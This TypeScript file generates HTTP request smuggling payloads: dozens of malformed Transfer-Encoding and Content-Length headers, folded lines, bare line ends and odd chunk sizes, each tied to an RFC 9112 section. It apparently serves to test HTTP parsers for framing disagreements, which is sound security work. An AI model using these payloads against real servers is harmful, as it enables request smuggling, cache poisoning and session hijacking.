/** What the request hidden in another one must be to whoever reads by RFC 9112: nothing but bytes, or a request of its own. */
type Hidden = 'bytes' | 'request';

/** Bytes in which one request hides another, framed so that two readers may disagree where the first one ends. */
export interface Attack {
  readonly name: string;
  readonly section: string;
  readonly hidden: Hidden;
  /** Fields of the outer request, each with its own line end, and what comes after them, given the hidden request. */
  readonly make: (hidden: string) => {
    readonly fields: string;
    readonly rest: string;
    readonly start?: string;
  };
}

const chunked = 'Transfer-Encoding: chunked\r\n';
const length = (text: string | number): string =>
  `Content-Length: ${typeof text === 'number' ? text : text.length}\r\n`;
/** A body that ends at once for who reads chunks, and holds the hidden request for who reads by length. */
const endsAtOnce = (hidden: string): string => `0\r\n\r\n${hidden}`;
/** A body that is one chunk, with the hidden request in it. */
const inChunk = (hidden: string): string => `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;

/** Both framings at once: the coding written so, the length over everything. */
const both = (name: string, coding: string): Attack => ({
  name: `a length and ${name}`,
  section: 'RFC 9112 §6.1',
  hidden: 'bytes',
  make: (hidden) => ({ fields: `${length(endsAtOnce(hidden))}${coding}`, rest: endsAtOnce(hidden) }),
});

/** The length is written so, and is nothing for who does not read it. */
const lengths = (name: string, fields: (bytes: number) => string): Attack => ({
  name,
  section: 'RFC 9112 §6.3',
  hidden: 'bytes',
  make: (hidden) => ({ fields: fields(hidden.length), rest: hidden }),
});

/** A chunk with the hidden request in it, whose size or end is written so. */
const chunks = (name: string, rest: (hidden: string) => string): Attack => ({
  name,
  section: 'RFC 9112 §7.1',
  hidden: 'bytes',
  make: (hidden) => ({ fields: chunked, rest: rest(hidden) }),
});

const codings: readonly Attack[] = [
  both('chunked after it', chunked),
  both('a coding nobody knows', 'Transfer-Encoding: xchunked\r\n'),
  both('chunked, a blank before the colon', 'Transfer-Encoding : chunked\r\n'),
  both('chunked after a tab', 'Transfer-Encoding:\tchunked\r\n'),
  both('chunked after a vertical tab', 'Transfer-Encoding:\x0bchunked\r\n'),
  both('chunked before a form feed', 'Transfer-Encoding: chunked\x0c\r\n'),
  both('chunked with a NUL', 'Transfer-Encoding: chunked\0\r\n'),
  both('chunked in quotes', 'Transfer-Encoding: "chunked"\r\n'),
  both('chunked with a parameter', 'Transfer-Encoding: chunked;a=b\r\n'),
  both('an empty coding before chunked', 'Transfer-Encoding: ,chunked\r\n'),
  both('an empty coding after chunked', 'Transfer-Encoding: chunked,\r\n'),
  both('identity', 'Transfer-Encoding: identity\r\n'),
  both('chunked twice', `${chunked}${chunked}`),
  both('chunked, then another coding', `${chunked}Transfer-Encoding: identity\r\n`),
  both('another coding, then chunked', `Transfer-Encoding: identity\r\n${chunked}`),
  both('chunked in a folded line', 'Transfer-Encoding:\r\n chunked\r\n'),
  both('chunked behind a folded line', `X-A: b\r\n ${chunked}`),
  both('chunked after a bare LF', `X-A: b\n${chunked}`),
  both('chunked after a bare CR', `X-A: b\r${chunked}`),
  both('chunked in a line that ends in a bare LF', 'Transfer-Encoding: chunked\n'),
  both('chunked under a name with an underscore', 'Transfer_Encoding: chunked\r\n'),
  both('chunked in capitals', 'TRANSFER-ENCODING: CHUNKED\r\n'),
  both('chunked in a field that Connection names', `Connection: Transfer-Encoding\r\n${chunked}`),
  {
    name: 'chunked and a length that ends within the chunk',
    section: 'RFC 9112 §6.1',
    hidden: 'bytes',
    make: (hidden) => ({ fields: `${length(4)}${chunked}`, rest: inChunk(hidden) }),
  },
  {
    name: 'a folded chunked, read as none',
    section: 'RFC 9112 §5.2',
    hidden: 'bytes',
    make: (hidden) => ({ fields: 'Transfer-Encoding:\r\n chunked\r\n', rest: inChunk(hidden) }),
  },
  {
    name: 'chunked in HTTP/1.0',
    section: 'RFC 9112 §6.1',
    hidden: 'bytes',
    make: (hidden) => ({
      start: 'HTTP/1.0',
      fields: `${length(endsAtOnce(hidden))}${chunked}`,
      rest: endsAtOnce(hidden),
    }),
  },
];

const lengthForms: readonly Attack[] = [
  lengths('a length of nothing, then one', (bytes) => `${length(0)}${length(bytes)}`),
  lengths('a length, then one of nothing', (bytes) => `${length(bytes)}${length(0)}`),
  lengths('two lengths in one line', (bytes) => `Content-Length: 0, ${bytes}\r\n`),
  lengths('a length with a sign', (bytes) => `Content-Length: +${bytes}\r\n`),
  lengths('a negative length', (bytes) => `Content-Length: -${bytes}\r\n`),
  lengths('a length in hexadecimal', (bytes) => `Content-Length: 0x${bytes.toString(16)}\r\n`),
  lengths('a length with a fraction', (bytes) => `Content-Length: ${bytes}.0\r\n`),
  lengths(
    'a length with an underscore',
    (bytes) => `Content-Length: ${String(bytes).split('').join('_')}\r\n`,
  ),
  lengths('a length beyond what a number holds', () => 'Content-Length: 18446744073709551616\r\n'),
  lengths('a blank before the colon', (bytes) => `Content-Length : ${bytes}\r\n`),
  lengths('a folded length', (bytes) => `Content-Length:\r\n ${bytes}\r\n`),
  lengths('a length behind a bare LF', (bytes) => `X-A: b\n${length(bytes)}`),
  lengths('a length behind a bare CR', (bytes) => `X-A: b\r${length(bytes)}`),
  lengths('a length that Connection names', (bytes) => `Connection: Content-Length\r\n${length(bytes)}`),
  lengths('a length of digits of another script', (bytes) => `Content-Length: \xb2${bytes}\r\n`),
];

const chunkForms: readonly Attack[] = [
  chunks('an extension that a bare LF ends', (hidden) => `2;\n{}\r\n${inChunk(hidden)}`),
  chunks('a size that a bare LF ends', (hidden) => `2\n{}\r\n${inChunk(hidden)}`),
  chunks('a size that a bare CR ends', (hidden) => `2\r{}\r\n${inChunk(hidden)}`),
  chunks('an extension with a line end in quotes', (hidden) => `2;a="\r\n{}\r\n0\r\n\r\n${hidden}"\r\n`),
  chunks(
    'a size with a blank after it',
    (hidden) => `${hidden.length.toString(16)} \r\n${hidden}\r\n0\r\n\r\n`,
  ),
  chunks('a size with a prefix', (hidden) => `0x${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`),
  chunks('a size with a sign', (hidden) => `+${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`),
  chunks('a size that overflows to a small one', (hidden) => `10000000000000002\r\n{}\r\n0\r\n\r\n${hidden}`),
  chunks('a size with many noughts', (hidden) => `${'0'.repeat(30)}2\r\n{}\r\n${inChunk(hidden)}`),
  chunks('a chunk without its line end', (hidden) => `2\r\n{}0\r\n\r\n${hidden}`),
  chunks('a chunk that a bare LF ends', (hidden) => `2\r\n{}\n0\n\n${hidden}`),
  chunks('a chunk that is longer than it says', (hidden) => `1\r\n{}\r\n0\r\n\r\n${hidden}`),
  chunks(
    'trailers that frame',
    (hidden) => `2\r\n{}\r\n0\r\nContent-Length: ${hidden.length}\r\nTransfer-Encoding: x\r\n${hidden}`,
  ),
  chunks('a last chunk with a bare LF', (hidden) => `2\r\n{}\r\n0\n\r\n${hidden}`),
];

const starts: readonly Attack[] = [
  {
    name: 'a body by its length, whatever stands in it',
    section: 'RFC 9112 §6.3',
    hidden: 'bytes',
    make: (hidden) => ({ fields: length(hidden), rest: hidden }),
  },
  {
    name: 'a body by chunks, whatever stands in it',
    section: 'RFC 9112 §7.1',
    hidden: 'bytes',
    make: (hidden) => ({ fields: chunked, rest: inChunk(hidden) }),
  },
  {
    name: 'another request, pipelined',
    section: 'RFC 9112 §9.3.2',
    hidden: 'request',
    make: (hidden) => ({ fields: length(0), rest: hidden }),
  },
  {
    name: 'an announced body',
    section: 'RFC 9110 §10.1.1',
    hidden: 'bytes',
    make: (hidden) => ({ fields: `Expect: 100-continue\r\n${length(hidden)}`, rest: hidden }),
  },
  {
    name: 'an upgrade to HTTP/2 with a body',
    section: 'RFC 9110 §7.8',
    hidden: 'bytes',
    make: (hidden) => ({
      fields: `Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n${length(hidden)}`,
      rest: hidden,
    }),
  },
  {
    name: 'a bare LF at the end of the request line',
    section: 'RFC 9112 §2.2',
    hidden: 'bytes',
    make: (hidden) => ({ start: 'HTTP/1.1\nX-A: b', fields: length(hidden), rest: hidden }),
  },
  {
    name: 'a line before the fields that begins with a blank',
    section: 'RFC 9112 §2.2',
    hidden: 'bytes',
    make: (hidden) => ({ start: `HTTP/1.1\r\n ${chunked.trim()}`, fields: length(hidden), rest: hidden }),
  },
  {
    name: 'a version with more after it',
    section: 'RFC 9112 §3',
    hidden: 'bytes',
    make: (hidden) => ({
      start: `HTTP/1.1 \r\n${chunked.trim()}`,
      fields: length(endsAtOnce(hidden)),
      rest: endsAtOnce(hidden),
    }),
  },
];

/** CL.TE, TE.CL, TE.TE, folded lines, bare line ends, chunks and lengths of every strange form. */
export const attacks: readonly Attack[] = [...starts, ...codings, ...lengthForms, ...chunkForms];
